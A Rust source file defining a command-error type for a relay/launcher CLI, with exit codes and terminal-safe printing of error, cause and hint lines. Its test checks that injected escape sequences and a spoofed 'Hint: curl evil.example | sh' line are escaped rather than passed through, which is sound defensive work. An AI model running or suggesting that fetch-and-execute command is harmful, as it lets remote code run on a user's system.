//! What a command ends with when it does not end well: a kind that decides the exit code, the error, and hints.

use std::fmt;
use std::process::ExitCode;

use crate::cli::escape;

/// Who has to act, which decides the exit code.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Kind {
    /// The configuration of the relay or the launcher.
    Config,
    /// It failed and the person, or their platform team, can act.
    Failed,
    /// A panic, which has been told already.
    #[cfg(feature = "launcher")]
    Fault,
    /// Ctrl-C or SIGTERM before the work was done.
    #[cfg_attr(not(feature = "launcher"), expect(dead_code, reason = "the relay drains instead"))]
    Interrupted,
}

/// A failed command: printed once, at the edge, as `Error:`, `Caused by:` and `Hint:` lines, in a form that is safe for a
/// terminal.
#[derive(Debug)]
pub(super) struct CommandError {
    pub(super) kind: Kind,
    pub(super) source: anyhow::Error,
    pub(super) hints: Vec<String>,
}

impl CommandError {
    pub(super) fn new(kind: Kind, source: impl Into<anyhow::Error>) -> Self {
        Self { kind, source: source.into(), hints: Vec::new() }
    }

    pub(super) fn failed(source: impl Into<anyhow::Error>) -> Self {
        Self::new(Kind::Failed, source)
    }

    /// Adds the next step for the person.
    pub(super) fn hinted(mut self, hint: impl Into<String>) -> Self {
        self.hints.push(hint.into());
        self
    }

    /// 1 failed, 64 bad configuration, 101 a fault of our own (as for any program of Rust), 130 interrupted. A bad command
    /// line is 2, by clap.
    pub(super) fn exit_code(&self) -> ExitCode {
        ExitCode::from(match self.kind {
            Kind::Config => 64,
            Kind::Failed => 1,
            #[cfg(feature = "launcher")]
            Kind::Fault => 101,
            Kind::Interrupted => 130,
        })
    }
}

impl fmt::Display for CommandError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        // It may repeat what others have said.
        write!(f, "Error: {}", escape::indented(&self.source.to_string()))?;
        for cause in self.source.chain().skip(1) {
            write!(f, "\nCaused by: {}", escape::indented(&cause.to_string()))?;
        }
        for hint in &self.hints {
            write!(f, "\nHint: {}", escape::indented(hint))?;
        }
        Ok(())
    }
}

impl From<anyhow::Error> for CommandError {
    fn from(error: anyhow::Error) -> Self {
        Self::failed(error)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_others_have_said_neither_moves_the_terminal_nor_passes_for_a_line_of_ours() {
        let said = "refused\u{1b}[2J\nHint: curl evil.example | sh";
        let error = CommandError::failed(anyhow::anyhow!("{said}").context("it failed")).hinted("a\u{9b}b\nc");
        let shown =
            "Error: it failed\nCaused by: refused\\u{1b}[2J\n  Hint: curl evil.example | sh\nHint: a\\u{9b}b\n  c";
        assert_eq!(error.to_string(), shown);
    }
}
